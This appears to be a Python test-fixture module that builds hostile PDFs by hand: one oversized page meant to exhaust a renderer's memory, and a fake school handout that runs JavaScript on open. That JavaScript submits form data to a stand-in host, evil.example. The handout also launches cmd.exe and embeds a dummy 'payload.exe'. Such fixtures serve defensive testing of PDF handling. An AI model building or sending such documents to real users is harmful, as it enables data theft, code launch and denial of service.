"""Hostile PDFs built byte by byte (no library smooths them over): a page of the largest size
the format allows, and one that runs JavaScript and actions on open."""

from __future__ import annotations

from pathlib import Path


def _write(path: Path, objs: list[bytes], root: int = 1) -> Path:
    out = bytearray(b"%PDF-1.6\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objs) + 1,
        root,
        xref,
    )
    path.write_bytes(bytes(out))
    return path


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def huge_page_pdf(path: Path, side_pt: int = 14400) -> Path:
    """One page of side_pt x side_pt points (14,400 pt = 200 inches), filled blue: a few
    hundred bytes that a naive renderer turns into gigabytes of pixels."""
    content = b"0 0 1 rg 0 0 %d %d re f" % (side_pt, side_pt)
    return _write(
        path,
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Contents 4 0 R >>"
            % (side_pt, side_pt),
            _stream(content),
        ],
    )


def scripted_pdf(path: Path) -> Path:
    """A one-page handout whose catalog runs JavaScript on open (OpenAction), whose page runs
    JavaScript and submits a form when opened (AA), with a named JavaScript, a launch and a
    URI action on a link, an embedded file, and a form field with a calculate script."""
    text = b"BT /F1 24 Tf 72 700 Td (Parent night handout) Tj ET"
    js = b"app.alert('hi'); this.submitForm('http://evil.example/collect'); app.launchURL('http://evil.example');"
    return _write(
        path,
        [
            # 1 catalog
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript 7 0 R"
            b" /EmbeddedFiles 9 0 R >> /AcroForm << /Fields [12 0 R] >> >>",
            # 2 pages
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            # 3 page
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> /Annots [11 0 R 12 0 R]"
            b" /AA << /O 8 0 R /C 13 0 R >> >>",
            # 4 content
            _stream(text),
            # 5 font
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            # 6 open action: JavaScript
            b"<< /Type /Action /S /JavaScript /JS (" + js + b") >>",
            # 7 named JavaScript tree
            b"<< /Names [(init) 6 0 R] >>",
            # 8 page-open action: submit a form
            b"<< /Type /Action /S /SubmitForm /F << /FS /URL /F (http://evil.example/f) >> >>",
            # 9 embedded files tree
            b"<< /Names [(payload.exe) 10 0 R] >>",
            # 10 file spec with an embedded stream
            b"<< /Type /Filespec /F (payload.exe) /EF << /F 14 0 R >> >>",
            # 11 link annotation with a launch action, then a URI
            b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /Launch"
            b" /F (cmd.exe) /Next << /S /URI /URI (http://evil.example/u) >> >> >>",
            # 12 form field widget with a calculate script
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 500 300 520]"
            b" /AA << /C << /S /JavaScript /JS (event.value = 1;) >> >> >>",
            # 13 page-close JavaScript
            b"<< /S /JavaScript /JS (app.alert('bye');) >>",
            # 14 the embedded file's bytes
            _stream(b"MZ not really a program", b"/Type /EmbeddedFile "),
        ],
    )
